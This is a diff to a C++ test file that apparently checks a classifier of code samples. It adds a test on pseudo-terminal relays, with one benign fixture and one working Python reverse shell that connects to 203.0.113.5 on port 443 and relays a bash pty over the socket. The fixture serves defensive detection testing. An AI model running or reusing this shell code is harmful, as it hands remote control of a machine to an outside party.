@@ -363,5 +363,22 @@ TEST(RubricClasses, CaptureThroughProgramsAndStartupHooks) {
   for (const auto& c : cases) check(c);
 }
 
+// pty.fork/os.forkpty: the parent's descriptor is the child's terminal, so
+// relaying it to a socket is a reverse shell; reading it locally is not.
+TEST(RubricClasses, PseudoTerminalRelays) {
+  const Case cases[] = {
+      {"pty.fork relayed to a socket with select", B,
+       "import pty, socket, os, select\ns = socket.create_connection(('203.0.113.5', 443))\npid, fd = pty.fork()\n"
+       "if pid == 0:\n    os.execv('/bin/bash', ['bash'])\nelse:\n    while True:\n"
+       "        r, _, _ = select.select([s, fd], [], [])\n        if s in r: os.write(fd, s.recv(1024))\n"
+       "        if fd in r: s.send(os.read(fd, 1024))\n",
+       "REVERSE-SHELL"},
+      {"pty.fork read locally", M,
+       "import pty, os\npid, fd = pty.fork()\nif pid == 0:\n    os.execv('/usr/bin/top', ['top'])\nelse:\n    print(os.read(fd, 1024))\n",
+       "RUNS-PROCESS"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
